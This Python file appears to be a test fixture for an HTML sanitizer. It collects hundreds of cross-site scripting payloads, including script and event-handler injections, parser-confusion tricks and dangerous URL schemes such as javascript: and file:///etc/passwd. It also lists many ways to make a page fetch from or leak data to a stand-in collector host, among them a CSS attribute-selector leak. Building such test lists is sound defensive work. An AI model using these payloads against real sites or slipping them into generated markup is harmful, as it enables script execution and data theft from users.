"""What hostile templates write in order to run something, or to fetch something from `HOST`."""

from __future__ import annotations

HOST = "https://collector.invalid"
EVENTS = (
    "abort animationend beforeinput blur canplay change click contextmenu copy error focus focusin "
    "input keydown load mouseover pageshow pointerenter resize scroll toggle transitionend wheel"
)
SCHEMES = (
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "java&#9;script:alert(1)",
    "java&#10;script:alert(1)",
    "java&Tab;script:alert(1)",
    "&#1;javascript:alert(1)",
    "&#32;javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#x6a;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
    "view-source:file:///etc/passwd",
    "blob:null/1",
    "filesystem:https://x/1",
    "ms-word:ofe|u|https://x",
    "feed:javascript:alert(1)",
    "jar:https://x!/",
)
FETCHED = f"""
<img src="{HOST}/1" alt="x">
<img src="//collector.invalid/1" alt="x">
<img src="\\\\collector.invalid\\1" alt="x">
<img src="&#9;{HOST}/1" alt="x">
<img src=" {HOST}/1" alt="x">
<img srcset="{HOST}/1 1x" src="" alt="x">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>" alt="x">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="x">
<img lowsrc="{HOST}/1" alt="x">
<img dynsrc="{HOST}/1" alt="x">
<img longdesc="{HOST}/1" src="" alt="x">
<html manifest="{HOST}/1"><p>x</p>
<math altimg="{HOST}/1"><mi>x</mi></math>
<svg xml:base="{HOST}/"><title>x</title><use href="#a"/></svg>
<picture><source srcset="{HOST}/1"><img src="" alt="x"></picture>
<input type=image src="{HOST}/1">
<video src="{HOST}/1"></video>
<video poster="{HOST}/1"></video>
<audio src="{HOST}/1" autoplay></audio>
<track src="{HOST}/1">
<embed src="{HOST}/1">
<object data="{HOST}/1"></object>
<object classid="{HOST}/1" codebase="{HOST}"></object>
<applet code="x" codebase="{HOST}"></applet>
<iframe src="{HOST}/1"></iframe>
<iframe srcdoc="<img src={HOST}/1>"></iframe>
<frameset><frame src="{HOST}/1"></frameset>
<portal src="{HOST}/1"></portal>
<fencedframe></fencedframe>
<bgsound src="{HOST}/1">
<body background="{HOST}/1">
<table background="{HOST}/1"><tr><td>x</td></tr></table>
<table><tr><td background="{HOST}/1">x</td></tr></table>
<link rel=stylesheet href="{HOST}/1">
<link rel=preload as=image href="{HOST}/1">
<link rel=prefetch href="{HOST}/1">
<link rel=prerender href="{HOST}/1">
<link rel=modulepreload href="{HOST}/1">
<link rel=preconnect href="{HOST}">
<link rel=dns-prefetch href="{HOST}">
<link rel=icon href="{HOST}/1">
<link rel="shortcut icon" href="{HOST}/1">
<link rel=apple-touch-icon href="{HOST}/1">
<link rel=manifest href="{HOST}/1">
<link rel=import href="{HOST}/1">
<link rel=next href="{HOST}/1">
<link rel=pingback href="{HOST}/1">
<link rel="alternate stylesheet" href="{HOST}/1">
<base href="{HOST}/">
<meta http-equiv=refresh content="0;url={HOST}/1">
<meta http-equiv=refresh content="0">
<meta http-equiv=set-cookie content="a=b">
<meta http-equiv=content-security-policy content="default-src *">
<meta http-equiv=x-dns-prefetch-control content=on>
<a href="#" ping="{HOST}/1">x</a>
<a href="{HOST}" attributionsrc="{HOST}/1">x</a>
<form action="{HOST}/1"><p>x</p></form>
<form><button formaction="{HOST}/1">x</button></form>
<isindex action="{HOST}/1">
<style>@import url({HOST}/1);</style>
<style>@import "{HOST}/1";</style>
<style>@im\\70ort url({HOST}/1);</style>
<style>p {{ background: url({HOST}/1) }}</style><p>x</p>
<style>p {{ background: \\75rl({HOST}/1) }}</style><p>x</p>
<style>p {{ background: URL("{HOST}/1") }}</style><p>x</p>
<style>p {{ background: image-set("{HOST}/1" 1x) }}</style><p>x</p>
<style>p {{ background: -webkit-image-set(url({HOST}/1) 1x) }}</style><p>x</p>
<style>p {{ background: cross-fade(url({HOST}/1), red) }}</style><p>x</p>
<style>p {{ --x: url({HOST}/1); background: var(--x) }}</style><p>x</p>
<style>p {{ cursor: url({HOST}/1), auto }}</style><p>x</p>
<style>p {{ list-style: url({HOST}/1) }}</style><p>x</p>
<style>p {{ border-image: url({HOST}/1) 1 }}</style><p>x</p>
<style>p {{ mask: url({HOST}/1#a) }}</style><p>x</p>
<style>p {{ filter: url({HOST}/1#a) }}</style><p>x</p>
<style>p {{ clip-path: url({HOST}/1#a) }}</style><p>x</p>
<style>p {{ shape-outside: url({HOST}/1) }}</style><p>x</p>
<style>p::before {{ content: url({HOST}/1) }}</style><p>x</p>
<style>p {{ behavior: url({HOST}/1) }}</style><p>x</p>
<style>p {{ -moz-binding: url({HOST}/1#a) }}</style><p>x</p>
<style>@font-face {{ font-family: f; src: url({HOST}/1) }} p {{ font-family: f }}</style><p>x</p>
<style>@namespace svg url({HOST}/1);</style><p>x</p>
<style>p[title^="M"] {{ background: url({HOST}/M) }}</style><p title="M">x</p>
<style>@page {{ background: url({HOST}/1) }}</style><p>x</p>
<style>@media all {{ p {{ background: url({HOST}/1) }} }}</style><p>x</p>
<style>p {{ background: src("{HOST}/1") }}</style><p>x</p>
<p style="background: url({HOST}/1)">x</p>
<p style="background: url(&quot;{HOST}/1&quot;)">x</p>
<p style="background: u\\72l({HOST}/1)">x</p>
<svg><title>x</title><image href="{HOST}/1"/></svg>
<svg><title>x</title><image xlink:href="{HOST}/1"/></svg>
<svg><title>x</title><use href="{HOST}/1#a"/></svg>
<svg><title>x</title><use xlink:href="{HOST}/1#a"/></svg>
<svg><title>x</title><feImage href="{HOST}/1"/></svg>
<svg><title>x</title><path fill="url({HOST}/1#a)"/></svg>
<svg><title>x</title><path style="fill: url({HOST}/1#a)"/></svg>
<svg><title>x</title><style>path {{ fill: url({HOST}/1#a) }}</style><path/></svg>
<svg><title>x</title><textPath href="{HOST}/1#a">x</textPath></svg>
<svg><title>x</title><foreignObject><iframe src="{HOST}/1"></iframe></foreignObject></svg>
<svg><title>x</title><set attributeName=href to="{HOST}/1"/></svg>
<svg><title>x</title><animate attributeName=href values="{HOST}/1"/></svg>
<svg><title>x</title><script href="{HOST}/1"></script></svg>
<math><mtext xlink:href="{HOST}/1">x</mtext></math>
<?xml-stylesheet href="{HOST}/1"?>
<!-- [if IE]><script src="{HOST}/1"></script><![endif] -->
"""
RUN = """
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<script/x>alert(1)</script>
<script type=module>alert(1)</script>
<svg><title>x</title><script>alert(1)</script></svg>
<svg><title><script>alert(1)</script></title></svg>
<svg><title>x</title><desc><script>alert(1)</script></desc></svg>
<math><mtext><script>alert(1)</script></mtext></math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><img src=x alt=x onerror=alert(1)></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>
<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>
<noscript><!--</noscript><img src=x onerror=alert(1)>--></noscript>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<style><p title="</style><img src=x onerror=alert(1)>"></p></style>
<style>/*</style ><img src=x onerror=alert(1)>*/</style>
<style>p::before { content: "<img src=x onerror=alert(1)>" }</style><p>x</p>
<svg><title>x</title><style><img src=x onerror=alert(1)></style></svg>
<math><mi><style><img src=x onerror=alert(1)></style></mi></math>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=alert(1)&gt;">
<select><style></select><img src=x onerror=alert(1)></style></select>
<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>
<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>
<p title='"><img src=x onerror=alert(1)>'>x</p>
<p title="`><img src=x onerror=alert(1)>">x</p>
<details open ontoggle=alert(1)><summary>x</summary>y</details>
<p contenteditable>x</p>
<p style="width: expression(alert(1))">x</p>
<p style="-moz-binding: url(data:text/xml,1)">x</p>
<marquee onstart=alert(1)>x</marquee>
<dialog open>x</dialog>
<plaintext>x
<!--><img src=x onerror=alert(1)>-->
<!--> <img src=x onerror=alert(1)> -->
<!---> <img src=x onerror=alert(1)> -->
<p\x0bonclick=alert(1)>x</p>
<a href="#"><math href="javascript:alert(1)"><mi>x</mi></math></a>
<math><maction actiontype=statusline xlink:href="javascript:alert(1)"><mi>x</mi></maction></math>
<p formaction="javascript:alert(1)" action="javascript:alert(1)">x</p>
<!--x--!><img src=x onerror=alert(1)>-->
<!-x><img src=x onerror=alert(1)>
<?x?><img src=x onerror=alert(1)>
<![CDATA[<img src=x onerror=alert(1)>]]>
<svg><title>x</title><![CDATA[<img src=x onerror=alert(1)>]]></svg>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>
<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>
"""
PAYLOADS = [
    *FETCHED.strip().split("\n"),
    *RUN.strip().split("\n"),
    *(f'<p on{event}="alert(1)">x</p>' for event in EVENTS.split()),
    *(f'<a href="{address}">x</a>' for address in SCHEMES),
    *(f'<svg><title>x</title><a href="{address}"><text>x</text></a></svg>' for address in SCHEMES),
    *(f'<map name="m"><area href="{address}"></map>' for address in SCHEMES[:8]),
]
